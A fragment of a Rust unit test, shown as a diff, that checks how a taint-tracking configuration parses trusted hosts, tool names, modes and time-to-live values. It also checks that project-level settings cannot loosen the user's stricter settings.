+            "{mode: ask, trusted: [docs.rs, '*.corp.example', mcp__wiki], ttl: 2h}",
+        ))
+        .unwrap();
+        assert!(s.trusts_host("docs.rs") && s.trusts_host("a.corp.example"));
+        assert!(!s.trusts_host("evil-docs.rs") && s.trusts_tool("mcp__wiki__fetch"));
+        let mut ignored = Vec::new();
+        s.apply_project(
+            &cfg("{mode: off, trusted: [evil.example], ttl: 1m}"),
+            &mut ignored,
+        )
+        .unwrap();
+        assert_eq!((s.mode, s.ttl_ms), (TaintMode::Ask, Some(7_200_000)));
+        assert_eq!(ignored.len(), 3);
+        s.apply_project(&cfg("{mode: deny, ttl: 1d}"), &mut ignored)
+            .unwrap();
+        assert_eq!((s.mode, s.ttl_ms), (TaintMode::Deny, Some(86_400_000)));
+        for bad in [
+            "{ttl: 0s}",
+            "{ttl: soon}",
+            "{trusted: ['*']}",
+            "{trusted: [mcp__a__b]}",
+        ] {
+            assert!(
+                TaintSettings::default().apply_user(&cfg(bad)).is_err(),
+                "{bad}"
+            );
+        }
+        assert!(serde_yaml::from_str::<TaintConfig>("{mode: maybe}").is_err());
+        assert!(serde_yaml::from_str::<TaintConfig>("{trust: []}").is_err());
+    }
+}
